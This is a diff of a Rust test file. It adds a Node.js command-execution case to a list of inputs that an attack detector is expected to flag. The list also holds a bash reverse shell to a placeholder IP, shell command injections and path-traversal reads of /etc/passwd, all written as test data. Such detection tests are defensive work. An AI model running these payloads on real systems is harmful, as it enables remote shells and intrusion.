@@ -982,6 +982,7 @@ fn detection_trigger_cases() -> Vec<(&'static str, String, &'static str)> {
             json("bash -i >& /dev/tcp/192.0.2.1/8080 0>&1"),
         ),
         ("rce.shell_path", json(";/bin/sh -c id")),
+        ("rce.nodejs", json("require('child_process').exec('id')")),
         ("rce.bare_command", json("whoami")),
         ("path.traversal", json("../../etc/passwd")),
         ("path.sensitive_file", json("/etc/passwd")),
